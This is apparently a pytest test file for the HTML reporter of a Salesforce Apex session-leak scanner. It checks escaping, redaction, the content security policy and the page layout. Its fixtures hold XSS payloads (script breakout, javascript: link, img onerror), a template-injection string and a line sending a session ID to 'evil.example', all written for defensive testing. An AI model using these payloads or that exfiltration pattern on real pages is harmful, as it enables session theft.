"""HTML reporter: one self-contained, deterministic page; everything from scanned files is inert text."""

from __future__ import annotations

import io
import re
from html.parser import HTMLParser

import pytest

from apexlint.catalogue import RuleMeta, load_catalogue
from apexlint.findings import (
    Finding,
    Fix,
    FlowStep,
    Level,
    Location,
    PackageInfo,
    Replacement,
    ScanResult,
    SourceContext,
    SourceVerdict,
    SuppressionInfo,
)
from apexlint.ir import NoticeLevel, Notification, Span
from apexlint.report import REPORTERS, ReportOptions
from apexlint.report.html import build_page
from apexlint.report.html_markdown import markdown_to_html, split_sections

OPTIONS = ReportOptions(color=False, tool_version="0.1.0")
TOKEN = "00D5g000004ABCDEFG!AQ4AQKq8dEXAMPLEexampleEXAMPLE123"
XSS = "</script><script>alert(1)</script>"
TEMPLATE = "{{7*7}}"

BILLING = (
    "public with sharing class BillingSync {\n"
    "    public static void push(Id invoiceId) {\n"
    "        String sid = UserInfo.getSessionId();\n"
    "        HttpRequest req = new HttpRequest();\n"
    "        req.setEndpoint('https://api.acme-billing.example.com/v2/sync');\n"
    f"        req.setHeader('X-Sid', sid); // {XSS} {TEMPLATE}\n"
    "        new Http().send(req);\n"
    "    }\n"
    "\n"
    "    public static void audit() {\n"
    "        System.debug('session ' + UserInfo.getSessionId());\n"
    "    }\n"
    "}\n"
)
TOKENS = f"public class Tokens {{\n    static final String T = '{TOKEN}';\n}}\n"
PAGE_PATH = f"pages/Evil{XSS}.page"


def _lines(text: str) -> tuple[str, ...]:
    return tuple(text.split("\n")[:-1])


def _loc(path: str, line: int, col: int, end_col: int, snippet: str | None, label: str = "") -> Location:
    return Location(path, Span(line, col, line, end_col), snippet, label)


def sample_result() -> ScanResult:
    """Findings across SID002, SID003, SID009, SID010 and SID011: a flow, a suppression, a fix, hostile text."""
    src = _loc("classes/BillingSync.cls", 3, 22, 45, "UserInfo.getSessionId()", "session ID read here")
    sink = _loc("classes/BillingSync.cls", 6, 9, 36, "req.setHeader('X-Sid', sid)",
                "sent to https://api.acme-billing.example.com")
    exported = Finding(
        "SID002", Level.ERROR,
        f"Session ID from UserInfo.getSessionId() is sent to https://api.acme-billing.example.com {XSS} {TEMPLATE}",
        sink, source=src,
        flow=(FlowStep(src, "UserInfo.getSessionId() returns the session ID"),
              FlowStep(_loc("classes/BillingSync.cls", 3, 16, 19, "sid"), "assigned to sid"),
              FlowStep(sink, f"sid reaches the callout header X-Sid {TEMPLATE}")),
        fingerprint="a1b2c3d4e5f60718", properties=(("confidence", "high"),
                                                    ("endpoint", "https://api.acme-billing.example.com")),
    )
    page_sink = _loc(PAGE_PATH, 4, 5, 60, f"img.src = 'https://evil.example/?s=' + {TEMPLATE}{XSS}")
    js_export = Finding("SID002", Level.ERROR, f"Session ID placed in an image URL to an external host {XSS}",
                        page_sink, fingerprint="0badc0de")
    logged = Finding(
        "SID003", Level.ERROR, "Session ID from UserInfo.getSessionId() is written to System.debug",
        _loc("classes/BillingSync.cls", 11, 9, 60, "System.debug('session ' + UserInfo.getSessionId())"),
        fix=Fix("Remove the session ID from the debug message", "classes/BillingSync.cls",
                (Replacement(Span(11, 22, 11, 59), "'session'"),)),
    )
    token = Finding("SID009", Level.ERROR, f"Literal shaped like a session ID: {TOKEN}",
                    _loc("classes/Tokens.cls", 2, 30, 82, f"'{TOKEN}'"))
    unresolved = Finding("SID011", Level.WARNING, "Session ID passed to managed code outside the package",
                         _loc("classes/Bridge.cls", 9, 20, 43, None))
    supported = Finding("SID010", Level.NOTE, "Session ID used only for a same-org REST call",
                        _loc("classes/OrgApi.cls", 5, 9, 60, "req.setHeader('Authorization', 'Bearer ' + sid)"))
    suppressed = Finding(
        "SID002", Level.ERROR, "Session ID sent to https://partner.example.com",
        _loc("classes/Partner.cls", 7, 9, 40, "req.setHeader('X-Sid', sid)"),
        suppression=SuppressionInfo(f"partner is our own Heroku app; reviewed {TEMPLATE} {XSS}"),
        baseline_state="unchanged",
    )
    notifications = (
        Notification("parse-error", f"could not parse {XSS}", NoticeLevel.ERROR, "pages/Broken.page",
                      Span(3, 1, 3, 9)),
        Notification("no-namespace", "no namespace in sfdx-project.json", NoticeLevel.NOTE),
    )
    return ScanResult(
        PackageInfo("acme-billing", "acme", "sfdx"),
        (exported, js_export, logged, token, unresolved, supported, suppressed),
        notifications,
        verdicts=(SourceVerdict("s1", "classes/BillingSync.cls", src.span, ("SID002",)),),
        files_scanned=12, lines_scanned=1234,
        rules_run=tuple(f"SID{n:03d}" for n in range(1, 12)),
        contexts=(SourceContext("classes/BillingSync.cls", 1, _lines(BILLING)),
                  SourceContext("classes/Tokens.cls", 1, _lines(TOKENS))),
    )


def rules() -> dict[str, RuleMeta]:
    return load_catalogue()


def render(result: ScanResult, options: ReportOptions = OPTIONS) -> str:
    buf = io.StringIO()
    REPORTERS["html"].render(result, rules(), buf, options)
    return buf.getvalue()


class _Collector(HTMLParser):
    """Collects tags and their attributes, and the text of <script> elements."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


def parse(html: str) -> _Collector:
    collector = _Collector()
    collector.feed(html)
    return collector


def test_hostile_text_from_files_renders_as_text() -> None:
    html = render(sample_result())
    assert "<script>alert(1)" not in html
    assert "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert TEMPLATE in html
    assert ">49<" not in html and " 49 " not in html


def test_only_our_own_script_element_exists() -> None:
    parsed = parse(render(sample_result()))
    assert [tag for tag, _ in parsed.tags].count("script") == 1
    assert "alert" not in "".join(parsed.scripts)


def test_file_text_in_attributes_stays_quoted() -> None:
    parsed = parse(render(sample_result()))
    paths = {attrs.get("data-path") for tag, attrs in parsed.tags if "data-finding" in attrs}
    assert f"pages/Evil{XSS}.page" in paths
    options = [attrs.get("value") for tag, attrs in parsed.tags if tag == "option"]
    assert f"pages/Evil{XSS}.page" in options


def test_self_contained_no_network_references() -> None:
    html = render(sample_result())
    parsed = parse(html)
    for tag, attrs in parsed.tags:
        assert tag not in ("link", "img", "iframe") or attrs.get("href", "data:").startswith("data:"), tag
        assert "src" not in attrs, (tag, attrs)
    assert "@import" not in html and "url(" not in html
    assert re.search(r"default-src 'none'", html)


def test_csp_allows_exactly_the_inline_script_and_style() -> None:
    import base64
    import hashlib

    html = render(sample_result())
    script = html.split("<script>", 1)[1].split("</script>", 1)[0]
    style = html.split("<style>", 1)[1].split("</style>", 1)[0]
    for text, directive in ((script, "script-src"), (style, "style-src")):
        digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
        assert f"{directive} 'sha256-{digest}'" in html


def test_output_is_deterministic() -> None:
    assert render(sample_result()) == render(sample_result())


def test_secrets_are_redacted_everywhere() -> None:
    html = render(sample_result())
    assert TOKEN not in html
    assert "00D5g…[REDACTED]" in html


def test_package_identity_and_rules_run() -> None:
    html = render(sample_result())
    for text in ("acme-billing", "acme", "SFDX project", "1,234", "apexlint 0.1.0", "SID011"):
        assert text in html


def test_findings_are_grouped_by_rule_with_explanation_and_alternative() -> None:
    page = build_page(sample_result(), rules(), OPTIONS)
    assert [g.id for g in page.groups] == ["SID002", "SID003", "SID009", "SID011"]
    titles = [title for title, _ in page.groups[0].sections]
    assert "Why it matters" in titles and "Recommended alternative" in titles
    html = render(sample_result())
    assert "Named Credential" in html


def test_documented_uses_hold_sid010_and_suppressed_findings() -> None:
    page = build_page(sample_result(), rules(), OPTIONS)
    documented = [(f.rule_id, f.justification) for f in page.documented]
    assert documented == [
        ("SID010", None),
        ("SID002", f"partner is our own Heroku app; reviewed {TEMPLATE} {XSS}"),
    ]
    assert all(f.rule_id != "SID010" for g in page.groups for f in g.findings)


def test_hidden_suppressed_findings_are_still_counted() -> None:
    options = ReportOptions(color=False, tool_version="0.1.0", include_suppressed=False)
    page = build_page(sample_result(), rules(), options)
    assert [f.rule_id for f in page.documented] == ["SID010"]
    assert dict(page.totals)["suppressed"] == 1


def test_summary_counts_by_rule_and_level() -> None:
    page = build_page(sample_result(), rules(), OPTIONS)
    assert dict(page.totals) == {"error": 4, "warning": 1, "note": 1, "suppressed": 1}
    sid002 = next(row for row in page.summary if row.rule_id == "SID002")
    assert dict(sid002.counts) == {"error": 2, "warning": 0, "note": 0, "suppressed": 1}
    assert len(page.summary) == 11
    assert [row.rule_id for row in page.rules_found] == ["SID002", "SID003", "SID009", "SID010", "SID011"]
    assert [s.level for s in sid002.segments] == ["error", "suppressed"]


def test_context_lines_surround_the_highlighted_region() -> None:
    page = build_page(sample_result(), rules(), OPTIONS)
    exported = page.groups[0].findings[0]
    assert exported.sink.excerpt is not None
    lines = exported.sink.excerpt.lines
    assert [line.number for line in lines] == [3, 4, 5, 6, 7, 8, 9]
    hit = [line for line in lines if line.hit]
    assert len(hit) == 1 and hit[0].marked == "req.setHeader('X-Sid', sid)"
    assert hit[0].before == "        " and hit[0].after.startswith("; //")


def test_snippet_alone_when_no_context() -> None:
    page = build_page(sample_result(), rules(), OPTIONS)
    supported = page.documented[0]
    assert supported.sink.excerpt is not None
    [line] = supported.sink.excerpt.lines
    assert (line.number, line.marked, line.hit) == (5, "req.setHeader('Authorization', 'Bearer ' + sid)", True)
    unresolved = page.groups[3].findings[0]
    assert unresolved.sink.excerpt is None


def test_token_line_in_context_is_redacted_not_split() -> None:
    page = build_page(sample_result(), rules(), OPTIONS)
    token = page.groups[2].findings[0]
    assert token.sink.excerpt is not None
    [hit] = [line for line in token.sink.excerpt.lines if line.hit]
    assert TOKEN not in hit.marked and "[REDACTED]" in hit.marked


@pytest.mark.parametrize("pad", range(250, 340, 3))
def test_a_clipped_context_line_never_shows_a_piece_of_a_token(pad: int) -> None:
    """A long line beside the finding is clipped; clipped through a token, the piece left would be
    too short to be recognised as one. Lines are redacted before they are clipped."""
    loc = Location("a.cls", Span(1, 1, 1, 5), None)
    lines = ("abcd", "String s = '" + "x" * pad + "' + '" + TOKEN + "';")
    result = ScanResult(PackageInfo("p", "", "files"), (Finding("SID011", Level.WARNING, "m", loc),), (),
                        contexts=(SourceContext("a.cls", 1, lines),))
    assert TOKEN[:6] not in render(result)


def test_flow_steps_run_from_source_to_sink() -> None:
    page = build_page(sample_result(), rules(), OPTIONS)
    flow = page.groups[0].findings[0].flow
    assert [step.role for step in flow] == ["source", "step", "sink"]
    assert flow[0].place.where == "classes/BillingSync.cls:3:22"


def test_an_async_call_path_is_labelled_as_calls_not_as_a_source_and_a_sink() -> None:
    """SID001's flow runs from the async entry point to where the session is read: its first step
    is no session source, and its last is the source itself, not a sink."""
    entry = _loc("classes/Jobs.cls", 6, 17, 24, "execute", "async entry point: Queueable.execute")
    read = _loc("classes/Jobs.cls", 8, 22, 45, "UserInfo.getSessionId()")
    finding = Finding("SID001", Level.ERROR, "UserInfo.getSessionId() runs in async Apex", read, source=read,
                      flow=(FlowStep(entry, "async entry point: Queueable.execute"),
                            FlowStep(_loc("classes/Jobs.cls", 7, 9, 20, "refresh()"), "calls Jobs.refresh"),
                            FlowStep(read, "UserInfo.getSessionId() evaluated here")),
                      properties=(("asyncEntry", "Queueable.execute"), ("confidence", "high")))
    result = ScanResult(PackageInfo("p", "", "files"), (finding,), ())
    [view] = build_page(result, rules(), OPTIONS).groups[0].findings
    assert [step.label for step in view.flow] == ["entry point", "call", "session read"]
    assert [step.role for step in view.flow] == ["source", "step", "sink"]  # the markers stay
    assert view.flow_caption == "Call path from the async entry point"
    html = render(result)
    assert "Call path from the async entry point" in html and "Path from source to sink" not in html
    [data] = build_page(sample_result(), rules(), OPTIONS).groups[0].findings[:1]
    assert [step.label for step in data.flow] == ["source", "step", "sink"]
    assert data.flow_caption == "Path from source to sink"


def test_astral_characters_count_two_utf16_columns() -> None:
    line = "s = '😀' + UserInfo.getSessionId();"
    start = len("s = '😀' + ") + 2  # 😀 is two UTF-16 units
    loc = Location("a.cls", Span(1, start, 1, start + 23), "UserInfo.getSessionId()")
    finding = Finding("SID011", Level.WARNING, "m", loc)
    result = ScanResult(PackageInfo("p", "", "files"), (finding,), (),
                        contexts=(SourceContext("a.cls", 1, (line,)),))
    [group] = build_page(result, rules(), OPTIONS).groups
    excerpt = group.findings[0].sink.excerpt
    assert excerpt is not None and excerpt.lines[0].marked == "UserInfo.getSessionId()"


def test_long_minified_lines_are_clipped() -> None:
    line = "a" * 5000 + "sforce.connection.sessionId" + "b" * 5000
    loc = Location("app.js", Span(1, 5001, 1, 5028), None)
    result = ScanResult(PackageInfo("p", "", "files"), (Finding("SID011", Level.WARNING, "m", loc),), (),
                        contexts=(SourceContext("app.js", 1, (line,)),))
    html = render(result)
    assert "<mark>sforce.connection.sessionId</mark>" in html
    assert len(html) < 60_000


def test_empty_result_renders_with_empty_notes() -> None:
    html = render(ScanResult(PackageInfo("empty", "", "mdapi"), (), ()))
    assert "No findings to fix." in html
    assert "No notifications" in html
    assert "Metadata API source tree" in html


def test_failed_scan_shows_a_banner() -> None:
    result = ScanResult(PackageInfo("p", "", "files"), (), (), execution_successful=False)
    assert "results below are partial" in render(result)


def test_notifications_are_listed_and_escaped() -> None:
    html = render(sample_result())
    assert "parse-error" in html and "pages/Broken.page:3:1" in html
    assert "could not parse &lt;/script&gt;" in html


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("## Use instead\n\ntext", "<h4>Use instead</h4>\n<p>text</p>"),
        ("a **b** `<c>`", "<p>a <strong>b</strong> <code>&lt;c&gt;</code></p>"),
        ("- one\n  two\n- three", "<ul><li>one two</li><li>three</li></ul>"),
        ("1. x\n2. y", "<ol><li>x</li><li>y</li></ol>"),
        ("```apex\nif (a < b) {}\n```", '<pre><code class="language-apex">if (a &lt; b) {}</code></pre>'),
        ("[t](https://x.example/?a=1&b=2)", '<p><a href="https://x.example/?a=1&amp;b=2">t</a></p>'),
        ("[t](javascript:alert(1))", "<p>[t](javascript:alert(1))</p>"),
        ('<img src=x onerror="alert(1)">', "<p>&lt;img src=x onerror=&#34;alert(1)&#34;&gt;</p>"),
        ("`**not bold**`", "<p><code>**not bold**</code></p>"),
    ],
)
def test_markdown_renderer_is_small_and_safe(markdown: str, expected: str) -> None:
    assert str(markdown_to_html(markdown)) == expected


def test_every_rule_help_renders_its_sections() -> None:
    for meta in rules().values():
        titles = [title for title, _ in split_sections(meta.help_markdown)]
        assert titles == ["What it does", "Why is this bad?", "Example", "Use instead", "References"]
        html = str(markdown_to_html(meta.help_markdown))
        assert html.count("<pre>") >= 2 and "<script" not in html


def test_renders_without_rule_metadata() -> None:
    buf = io.StringIO()
    REPORTERS["html"].render(sample_result(), {}, buf, OPTIONS)
    html = buf.getvalue()
    assert "SID002" in html and "Recommended alternative" not in html
